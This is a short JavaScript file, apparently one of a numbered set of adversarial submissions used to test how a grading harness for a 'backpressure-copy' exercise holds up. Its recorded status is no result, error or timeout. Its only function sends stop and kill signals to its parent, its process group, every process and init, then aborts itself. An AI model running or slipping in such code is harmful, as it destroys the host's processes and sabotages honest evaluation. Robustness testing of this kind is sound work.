// attack 17: kills its parent, its group and everything that it may | exercise: backpressure-copy | only: data-integrity
// passes: none | status: no result, error, timeout
export async function copy() {
  for (const pid of [process.ppid, 0, -process.ppid, -1, 1]) {
    for (const signal of ['SIGSTOP', 'SIGTERM', 'SIGKILL']) try { process.kill(pid, signal); } catch {}
  }
  process.kill(process.pid, 'SIGKILL');
  process.abort();
}
